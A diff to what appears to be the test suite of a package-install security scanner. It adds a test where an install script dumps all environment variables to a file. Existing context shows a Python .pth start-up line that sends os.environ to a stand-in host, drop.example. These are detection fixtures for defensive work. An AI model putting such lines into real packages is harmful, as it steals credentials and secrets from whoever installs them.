@@ -94,6 +94,12 @@ class TestAlarm:
     def test_the_ways_of_a_shell(self, command: str) -> None:
         assert severities(npm(scripts={"preinstall": command})) == ["critical"]
 
+    def test_a_file_without_a_known_path_is_a_file(self) -> None:
+        source = "module.exports = (path) => require('fs').writeFileSync(path, JSON.stringify(process.env));"
+        assert told(findings(environment_harvest, installs(source))) == [
+            "critical: its install step takes the whole environment and writes it to a file"
+        ]
+
     def test_a_start_up_hook_is_critical(self) -> None:
         line = "import os, urllib.request as u; u.urlopen('https://drop.example/', data=str(dict(os.environ)).encode())"
         assert told(findings(environment_harvest, wheel({"a.pth": line}))) == [
